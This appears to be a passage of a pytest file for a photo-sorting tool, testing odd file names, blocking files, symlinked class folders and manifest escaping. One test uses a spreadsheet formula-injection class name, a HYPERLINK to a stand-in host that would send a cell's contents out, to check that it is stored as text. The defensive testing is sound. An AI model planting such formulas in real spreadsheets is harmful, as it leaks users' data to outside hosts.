    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    [(source, reason), (printer, why)] = report.failed
    assert (printer, why) == (str(photos / "printer 13:06.png"), "Operation not permitted")
    assert source == str(photos / "mouse 13:05.png") and reason.endswith(
        'no FAT, exFAT or NTFS name has : * ? " < > | or a control character): rename it'
    )
    assert reason.startswith("the destination's file system cannot hold this name (Invalid")


def test_a_file_in_the_way_of_a_class_folder_is_named_in_each_failed_row(engine, tmp_path):
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    dest.mkdir()
    (dest / "Mouse").write_bytes(b"someone's notes")
    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert report.failed == [
        (
            str(photos / "mouse.png"),
            f"{dest / 'Mouse'} is not a folder: rename it to sort this class",
        )
    ]
    assert (dest / "Mouse").read_bytes() == b"someone's notes" and len(report.filed) == 11


def test_a_class_folder_planted_as_a_link_takes_no_photo(engine, tmp_path) -> None:
    photos, dest, outside = photo_folder(tmp_path / "photos"), tmp_path / "share", tmp_path / "x"
    outside.mkdir()
    dest.mkdir()
    (dest / "Mouse").symlink_to(outside, target_is_directory=True)
    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert list(outside.iterdir()) == [] and (photos / "mouse.png").is_file()
    assert report.failed == [
        (str(photos / "mouse.png"), "a link to another folder, not a class folder: remove it")
    ]
    assert len(report.filed) == 11


def test_a_class_name_a_spreadsheet_would_run_is_text_in_the_manifest(engine, tmp_path) -> None:
    # Class names come from a model's metadata, which anyone may write.
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    names = ['=HYPERLINK("http://example.invalid/?"&A2)', *CLASS_NAMES[1:]]
    battery = [p for p in classified(engine, photos) if Path(p.path).name == "battery.png"]
    sort_into(battery, dest, names, THRESHOLD)
    [row] = manifest_rows(dest)
    assert row["class"] == "'" + names[0]  # shown as text, never run
    [entry] = sort_manifest.manifest_entries(dest)
    assert entry.class_name == names[0]  # read back as it was
